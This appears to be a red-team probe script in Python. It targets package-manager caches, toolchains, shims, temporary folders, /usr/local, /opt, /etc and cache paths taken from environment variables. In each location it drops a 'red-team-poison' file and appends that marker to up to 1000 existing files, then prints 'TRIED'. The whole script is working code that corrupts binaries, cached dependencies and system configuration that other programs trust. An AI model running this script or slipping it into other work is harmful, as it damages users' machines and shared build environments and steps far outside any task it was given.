"""Writes into what others use without looking: tool chains, the stores of package managers,
temporary folders."""
import glob, os

WORD = "red-team-" + "poison"
home = os.path.expanduser("~")
places = [f"{home}/{place}" for place in (
    ".cache/pip", ".cache/uv", ".cache/go-build", ".cache/ccache", ".cache/sccache", ".cache/ms-playwright",
    ".cache/huggingface", ".cache/yarn", ".local/share/pnpm/store", ".npm/_cacache", ".npm/_npx", ".yarn/cache",
    ".bun/install/cache", ".deno", ".cargo/registry/src", ".cargo/git/db", ".cargo/bin", ".rustup/toolchains",
    ".m2/repository", ".gradle/caches", ".gradle/init.d", ".ivy2/cache", "go/pkg/mod", "go/bin", ".gem", ".nuget",
    ".local/bin", ".local/lib/python3/site-packages", ".config/pip", ".nvm", ".pyenv/shims", ".asdf/shims", "bin")]
places += ["/tmp", "/var/tmp", "/dev/shm", "/run", "/usr/local/bin", "/usr/local/lib", "/opt", "/var/cache", "/etc"]
places += [value for name, value in os.environ.items() if value.startswith("/") and
           any(part in name.upper() for part in ("CACHE", "HOME", "STORE", "GOPATH", "TMP"))]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        with open(os.path.join(place, WORD), "w") as file:
            file.write(WORD)
    except OSError:
        pass
    for path in glob.glob(place + "/**", recursive=True)[:1000]:
        try:
            if os.path.isfile(path) and WORD not in path:
                with open(path, "a") as file:
                    file.write(WORD)
        except OSError:
            pass
print("TRIED")
